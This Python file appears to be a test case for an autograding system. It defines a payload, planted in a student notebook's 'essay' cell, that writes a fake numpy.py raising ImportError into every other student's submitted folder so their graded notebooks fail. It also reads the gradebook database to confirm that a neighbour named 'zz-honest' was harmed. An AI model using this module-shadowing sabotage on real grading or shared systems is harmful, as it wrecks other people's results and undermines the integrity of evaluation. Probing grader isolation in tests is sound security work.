"""Writes a numpy.py into the neighbours' submitted folders: the next student's kernel, a fresh process, imports the attacker's module and gets every answer wrong."""

import sqlite3

STOCK = "harm"
MARKS = {"test-double": 1.0, "test-mean": 2.0}

CODE = r"""
def _poison():
    import os
    lab = os.path.basename(os.getcwd())
    student = os.path.basename(os.path.dirname(os.getcwd()))
    base = os.path.join(os.path.abspath(os.path.join("..", "..", "..")), "submitted")
    for other in os.listdir(base):
        if other != student:
            with open(os.path.join(base, other, lab, "numpy.py"), "w") as f:
                f.write("raise ImportError('no numpy for you')\n")
try:
    _poison()
except OSError:
    pass
"""


def marks(course):
    """Auto and manual marks of everybody, straight from the gradebook."""
    db = sqlite3.connect("file:%s?mode=ro" % (course / "gradebook.db"), uri=True)
    rows = db.execute("""select s.id, bc.name, g.auto_score, g.manual_score, g.needs_manual_grade from grade g
        join submitted_notebook sn on g.notebook_id = sn.id join submitted_assignment sa on sn.assignment_id = sa.id
        join student s on sa.student_id = s.id join base_cell bc on g.cell_id = bc.id""").fetchall()
    db.close()
    return rows


def neighbour_changed(course):
    right = {"test-double": 1.0, "test-mean": 2.0}
    return any(
        s == "zz-honest" and c in right and (m if m is not None else a) not in (None, right[c])
        for s, c, a, m, n in marks(course)
    )


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = CODE
    return notebook


def harmed(course):
    return (
        neighbour_changed(course)
        or (course / "submitted" / "zz-honest" / "lab" / "numpy.py").exists()
    )
